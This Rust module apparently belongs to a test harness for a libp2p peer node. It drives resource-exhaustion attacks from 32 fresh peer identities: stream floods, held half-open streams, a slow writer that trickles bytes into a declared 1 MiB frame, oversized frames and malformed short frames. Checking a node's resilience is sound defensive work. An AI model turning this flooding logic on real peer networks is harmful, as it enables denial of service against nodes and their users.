//! Streams that are left, and frames of strange lengths and speeds.

use std::io;
use std::time::Duration;

use futures::AsyncWriteExt as _;
use libp2p::identity::Keypair;

use super::line::Line;
use super::{Attempt, Tasks};
use crate::Failure;
use crate::case::Attack;

/// Connections, each of a peer id of its own.
const LINES: usize = 32;
/// Substreams of one connection that are held.
const HELD: usize = 200;
/// So many of them a node takes before it knows what they are for; on the others there is this much.
const TAKEN: usize = 128;
const MUCH: usize = 200 << 10;
const PROTOCOLS: [&str; 3] = ["/peer/1.1.0", "/peer/1.1.0/hop", "/peer/1.0.0"];

pub(super) async fn begin(attack: Attack, attempt: &Attempt) -> Result<Tasks, Failure> {
    let mut tasks = Tasks::new();
    for _ in 0..LINES {
        let line = Line::open(&attempt.source, &Keypair::generate_ed25519()).await?;
        let attempt = attempt.clone();
        tasks.spawn(async move {
            // When the connection is gone the attack was repelled.
            let _ = flood(attack, &line, &attempt).await;
        });
    }
    Ok(tasks)
}

async fn flood(attack: Attack, line: &Line, attempt: &Attempt) -> io::Result<()> {
    let mut held = Vec::new();
    for number in 0_usize.. {
        attempt.turn().await;
        let protocol = PROTOCOLS[number % PROTOCOLS.len()];
        match attack {
            Attack::Streams => drop(line.say(protocol, &[]).await?),
            Attack::HalfOpen => {
                let bytes: &[u8] = if held.len() < TAKEN { b"\x13" } else { &[0; MUCH] };
                let mut stream = line.stream().await?;
                // One that is refused is held all the same.
                let _ = stream.write_all(bytes).await;
                let _ = stream.flush().await;
                held.push(stream);
            }
            Attack::SlowWriter => {
                let mut first = (1_u32 << 20).to_be_bytes().to_vec();
                first.resize(20 << 10, 0);
                held.push(line.say("/peer/1.1.0", &first).await?);
            }
            Attack::HugeFrames => {
                drop(line.say(protocol, &[0xff; 16 << 10]).await?);
            }
            _ => {
                let frame: &[u8] = if number % 2 == 0 { &[0, 0, 0, 1, 0] } else { &[0; 4] };
                drop(line.say(protocol, frame).await?);
            }
        }
        if held.len() >= HELD {
            break;
        }
        tokio::task::yield_now().await;
    }
    while line.is_open() {
        for stream in &mut held {
            if attack == Attack::SlowWriter {
                attempt.count();
                // One that the node has closed is of no more use, but does no harm.
                let _ = stream.write_all(&[0]).await;
            }
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}
